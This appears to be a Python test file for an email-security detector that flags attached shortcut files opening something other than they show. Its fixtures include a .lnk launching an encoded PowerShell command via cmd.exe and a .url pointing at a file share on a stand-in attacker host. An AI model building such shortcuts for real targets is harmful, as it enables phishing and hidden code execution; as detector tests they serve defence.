"""The attached shortcut opens something other than it shows."""

import pytest

from mailguard.corpus.writers import formats as makers
from tests.cast.mailguard.detectors.files import _made
from tests.cast.mailguard.maker import fires

FIRES = [
    ("file_shortcut", "invoice.lnk", makers.shortcut("cmd.exe", "/c powershell -enc A")),
    ("file_shortcut", "share.url", b"[InternetShortcut]\nURL=file://evil.example/share/\n"),
]


@pytest.mark.parametrize(("detector", "name", "data"), FIRES)
def test_a_poisoned_file_is_noticed(detector, name, data):
    assert fires(detector, _made(name, data))


SILENT = [
    ("file_shortcut", "list.txt", b"https://example.org/"),
]


@pytest.mark.parametrize(("detector", "name", "data"), SILENT)
def test_a_near_miss_is_left_alone(detector, name, data):
    assert not fires(detector, _made(name, data))
